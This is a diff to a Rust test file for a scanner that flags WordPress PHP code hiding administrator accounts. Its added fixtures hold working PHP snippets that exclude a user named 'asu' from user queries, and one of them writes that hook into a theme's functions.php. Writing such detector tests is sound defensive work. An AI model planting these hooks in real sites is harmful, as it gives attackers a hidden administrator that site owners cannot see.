@@ -20,6 +20,18 @@ fn an_administrator_left_out_of_the_users_query_is_hidden() {
     assert_eq!(found(by_login), [(Why::HiddenAdministrator, Danger::High)]);
     let not_in = r#"<?php add_action('pre_user_query', function ($q) { $q->query_where .= ' AND ID NOT IN (' . get_option('x') . ')'; });"#;
     assert_eq!(found(not_in), [(Why::HiddenAdministrator, Danger::High)]);
+    // `pre_get_users` with the user's ID added to `exclude`.
+    let excluded = r#"<?php add_action('pre_get_users', function ($query) { $u = get_user_by('login', 'asu');
+        $ex = (array) $query->get('exclude'); $ex[] = $u->ID; $query->set('exclude', $ex); });"#;
+    assert_eq!(found(excluded), [(Why::HiddenAdministrator, Danger::High)]);
+    // fresh118's `bplog.php`: that hook kept in a nowdoc, appended to the theme's functions.php.
+    let written = "<?php $f = get_theme_root() . '/functions.php';\n$code = <<<'EOD'\n".to_owned()
+        + "add_action('pre_get_users', function($query) { $u = get_user_by('login', 'asu'); $query->set('exclude', [$u->ID]); });\n"
+        + "EOD;\nfile_put_contents($f, $code, FILE_APPEND);";
+    assert_eq!(found(&written), [(Why::HiddenAdministrator, Danger::High)]);
+    // A users' hook that sorts: quiet, kept in a literal or not.
+    let sorts = "<?php $c = \"add_action('pre_get_users', function($q) { $q->set('orderby', 'registered'); });\";";
+    assert_eq!(found(sorts), []);
 }
 
 #[test]
